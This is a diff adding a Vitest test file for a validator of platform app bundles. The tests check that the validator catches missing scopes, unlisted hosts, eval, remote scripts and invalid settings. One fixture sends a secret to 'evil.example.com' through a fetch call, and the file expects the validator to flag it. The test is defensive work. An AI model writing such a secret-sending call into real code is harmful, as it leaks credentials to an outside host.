@@ -1,0 +1,146 @@
+import { expect, it } from "vitest";
+import { checkBundle } from "./check-bundle.ts";
+
+const MANIFEST = {
+  id: "call-notes",
+  name: "Call notes",
+  version: "1.0.0",
+  scopes: ["objects:note"],
+  ui: { entry: "index.js", pages: [{ id: "panel", title: "Notes" }] },
+};
+const SCRIPT = 'const rows = await window.platform.data.list("note");';
+
+function check(
+  {
+    manifest = {},
+    ui = {},
+    files = {},
+  }: { manifest?: object; ui?: object; files?: Record<string, string> } = {},
+  script = SCRIPT,
+) {
+  const text = JSON.stringify({ ...MANIFEST, ...manifest, ui: { ...MANIFEST.ui, ...ui } }, null, 2);
+  const all = { "platform.app.json": text, "index.js": script, ...files };
+  const bytes = Object.entries(all).map(([path, body]): [string, Uint8Array] => [
+    path,
+    new TextEncoder().encode(body),
+  ]);
+  return checkBundle(new Map(bytes));
+}
+const codes = (...given: Parameters<typeof check>): string[] =>
+  check(...given).problems.map(({ code }) => code);
+
+it("says nothing about an app that is right", () => {
+  expect(check()).toMatchObject({ problems: [], isPublishable: true, manifest: { id: "call-notes" } });
+});
+
+it("refuses an unknown kind, surface and slot with the line of the manifest", () => {
+  const wrong = { id: "x", kind: "banner", surface: "home", label: "X", pageId: "panel" };
+  const { problems, isPublishable } = check({ ui: { contributions: [wrong] } });
+  expect(isPublishable).toBe(false);
+  expect(problems.map(({ code }) => code)).toEqual(["MANIFEST_INVALID", "MANIFEST_INVALID"]);
+  expect(problems[0]?.message).toContain("ui.contributions.0.kind");
+  const lines = JSON.stringify(
+    { ...MANIFEST, ui: { ...MANIFEST.ui, contributions: [wrong] } },
+    null,
+    2,
+  ).split("\n");
+  expect(lines[(problems[0]?.line ?? 0) - 1]).toContain('"banner"');
+  expect(lines[(problems[1]?.line ?? 0) - 1]).toContain('"home"');
+});
+
+it("refuses a contribution that is there twice, has no label, or opens a page that does not exist", () => {
+  const one = { id: "x", kind: "list_action", surface: "calls_list", label: "X", pageId: "panel" };
+  expect(codes({ ui: { contributions: [one, one] } })).toEqual(["CONTRIBUTION_DUPLICATE"]);
+  expect(codes({ ui: { contributions: [{ ...one, label: undefined }] } })).toEqual(["MANIFEST_INVALID"]);
+  expect(codes({ ui: { contributions: [{ ...one, pageId: "gone" }] } })).toEqual(["PAGE_UNKNOWN"]);
+  expect(codes({ ui: { contributions: [{ ...one, pageId: undefined }] } })).toEqual([
+    "CONTRIBUTION_PAGE_MISSING",
+  ]);
+});
+
+it("warns of what is installed but not drawn, and publishes it", () => {
+  const column = { id: "c", kind: "column", surface: "calls_list", label: "Notes" };
+  const report = check({ ui: { contributions: [column] } });
+  expect(report.isPublishable).toBe(true);
+  expect(report.problems).toMatchObject([{ code: "CONTRIBUTION_UNRENDERED", severity: "warning" }]);
+});
+
+it("wants the files that the manifest names, and no others than a frame loads", () => {
+  expect(codes({ ui: { entry: "main.js" } })).toEqual(["ENTRY_MISSING"]);
+  expect(codes({ ui: { styles: "index.css" } })).toEqual(["STYLES_MISSING"]);
+  expect(codes({ files: { "page.html": "<script>" } })).toEqual(["FILE_REFUSED"]);
+  expect(codes({ files: { "../x.js": "1" } })).toEqual(["FILE_REFUSED"]);
+  expect(checkBundle(new Map()).problems).toMatchObject([{ code: "MANIFEST_MISSING" }]);
+});
+
+it("tells a method whose scope is not declared, with its place", () => {
+  const script = `${SCRIPT}\nplatform.calls.history({});\nplatform.data.create("task", {});`;
+  expect(check({}, script).problems).toMatchObject([
+    {
+      code: "SCOPE_MISSING",
+      file: "index.js",
+      line: 2,
+      column: 1,
+      message: expect.stringContaining("calls:read"),
+    },
+    { code: "SCOPE_MISSING", line: 3, message: expect.stringContaining("objects:task") },
+  ]);
+});
+
+it("tells a scope that is declared and never used", () => {
+  const manifest = { scopes: ["objects:note", "calls:read", "user:profile", "http:api.example.com"] };
+  const { problems } = check({ manifest });
+  expect(problems.map(({ code, message }) => [code, /Scope (\S+)/.exec(message)?.[1]])).toEqual([
+    ["SCOPE_UNUSED", "calls:read"],
+    ["SCOPE_UNUSED", "http:api.example.com"],
+  ]);
+});
+
+it("tells a host that is not on the list, and knows those that are", () => {
+  const manifest = { scopes: ["objects:note", "http:*.zendesk.com"] };
+  const script = `${SCRIPT}
+    platform.http.fetch({ url: \`https://acme.zendesk.com/api/\${id}\` });
+    platform.http.fetch({ url: "https://evil.example.com/" + secret });`;
+  expect(check({ manifest }, script).problems).toMatchObject([
+    { code: "HOST_NOT_LISTED", line: 3, message: expect.stringContaining("evil.example.com") },
+  ]);
+});
+
+it("tells eval, functions of text, remote scripts and a network that is not there", () => {
+  const script = `${SCRIPT}
+    eval("1"); new Function("return 1"); window.eval("2");
+    import("https://cdn.example.com/x.js");
+    fetch("/x"); new WebSocket("wss://x"); navigator.sendBeacon("https://x"); window.open("https://x");
+    const fine = { eval() {}, fetch() {} }; fine.fetch(); store.eval();`;
+  expect(codes({}, script)).toEqual([
+    ...["EVAL_USED", "EVAL_USED", "EVAL_USED", "REMOTE_SCRIPT"],
+    ...["NETWORK_BLOCKED", "NETWORK_BLOCKED", "NETWORK_BLOCKED", "POPUP_USED"],
+  ]);
+  const files = { "a.css": '@import "https://x.example/a.css";\nb { background: url(//x.example/i.png) }' };
+  expect(check({ files }).problems).toMatchObject([
+    { code: "REMOTE_RESOURCE", line: 1 },
+    { code: "REMOTE_RESOURCE", line: 2 },
+  ]);
+});
+
+it("holds settings to their types, and secrets to declared hosts", () => {
+  const settings = (...all: object[]) => codes({ manifest: { settings: all } });
+  expect(settings({ key: "a", label: "A", type: "boolean", default: "yes" })).toEqual([
+    "SETTING_DEFAULT_INVALID",
+  ]);
+  expect(settings({ key: "a", label: "A", type: "secret", default: "x" })).toEqual([
+    "SETTING_DEFAULT_INVALID",
+  ]);
+  expect(settings({ key: "a", label: "A", type: "text" }, { key: "a", label: "B", type: "text" })).toEqual([
+    "SETTING_DUPLICATE",
+  ]);
+  expect(settings({ key: "a", label: "A", type: "secret", hosts: ["api.example.com"] })).toEqual([
+    "HOST_UNKNOWN",
+  ]);
+});
+
+it("refuses a script and a manifest that cannot be read", () => {
+  expect(codes({}, "const = ;")).toContain("SCRIPT_UNREADABLE");
+  const broken = new Map([["platform.app.json", new TextEncoder().encode("{")]]);
+  expect(checkBundle(broken).problems).toMatchObject([{ code: "MANIFEST_INVALID" }]);
+});
